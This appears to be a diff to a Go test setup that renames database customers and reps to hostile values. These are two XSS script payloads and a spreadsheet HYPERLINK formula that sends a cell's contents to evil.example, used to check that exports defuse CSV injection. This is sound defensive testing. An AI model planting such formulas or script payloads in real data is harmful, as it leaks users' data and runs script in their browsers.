@@ -43,11 +43,14 @@ var env struct {
 	xssCust  string // customer renamed to a script payload
 	xssRep   string // rep renamed to a script payload
 	xssDept  string // that rep's org unit
+	formula  string // customer renamed to a spreadsheet formula
 }
 
 const (
 	xssCustomer = `</script><script>alert(1)</script>`
 	xssRepName  = `<img src=x onerror=alert(2)>`
+	// A spreadsheet formula (OWASP CSV injection): exports must defuse it.
+	formulaCustomer = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
 )
 
 func TestMain(m *testing.M) {
@@ -112,6 +115,12 @@ func setup() (func(*testing.M) int, error) {
 			return err
 		}
 		if _, err := conn.ExecContext(ctx, `UPDATE customers SET name = $1 WHERE customer_id = $2`, xssCustomer, env.xssCust); err != nil {
+			return err
+		}
+		if err := conn.QueryRowContext(ctx, `SELECT customer_id FROM payments WHERE customer_id <> $1 ORDER BY paid_on DESC, payment_id LIMIT 1`, env.xssCust).Scan(&env.formula); err != nil {
+			return err
+		}
+		if _, err := conn.ExecContext(ctx, `UPDATE customers SET name = $1 WHERE customer_id = $2`, formulaCustomer, env.formula); err != nil {
 			return err
 		}
 		_, err := conn.ExecContext(ctx, `UPDATE reps SET name = $1 WHERE rep_id = $2`, xssRepName, env.xssRep)
